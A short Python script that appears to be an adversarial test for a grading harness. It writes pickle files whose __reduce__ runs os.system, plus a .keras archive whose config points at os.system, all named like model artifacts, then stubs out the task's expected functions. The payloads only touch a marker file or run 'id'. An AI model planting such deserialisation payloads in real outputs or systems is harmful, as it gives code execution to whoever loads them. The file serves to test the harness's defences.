"""Tries to leave pickles, .keras, .h5, .pt, .joblib and .dill files, named as a grader might load them; gains
nothing because evidence.json and the arrays that it names are all that is ever opened.
"""

import os
import pickle
import zipfile


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/kit-attack-was-here",)


for name in ("model.pkl", "results.pkl", "model.joblib", "model.h5", "model.pt", "state.dill", "cache.db"):
    with open(f"/output/{name}", "wb") as file:
        pickle.dump(Bomb(), file)
with zipfile.ZipFile("/output/model.keras", "w") as archive:
    archive.writestr("config.json", '{"module": "os", "class_name": "system", "config": "id", "registered_name": "x"}')
print("attack:", len(os.listdir("/output")), "files", flush=True)


def split_indices(*args, **kwargs):
    return None


channel_statistics = standardise = one_hot = prepare = split_indices
